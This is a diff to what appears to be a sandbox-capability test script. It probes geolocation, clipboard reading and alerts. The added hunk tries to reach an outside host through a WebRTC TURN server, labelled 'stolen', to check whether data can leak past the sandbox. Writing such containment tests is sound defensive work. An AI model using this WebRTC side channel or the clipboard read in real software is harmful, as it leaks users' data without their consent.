@@ -128,6 +128,15 @@ async function report() {
   await attempt('geolocation', () => new Promise((resolve, reject) => {
     navigator.geolocation.getCurrentPosition(resolve, reject);
   }));
+  await attempt('WebRTC', async () => {
+    // Whether anything came of it, is known at the other end.
+    const connection = new RTCPeerConnection({
+      iceServers: [{ urls: 'turn:${outside}?transport=udp', username: 'stolen', credential: 'none' }],
+    });
+    connection.createDataChannel('out');
+    await connection.setLocalDescription(await connection.createOffer());
+    await later(1000);
+  });
   await attempt('clipboard', () => navigator.clipboard.readText());
   await attempt('alert', () => { alert('x'); });
   await refusedByBridge('another extension', { invoke: 'directory.contact.search', input: {} });
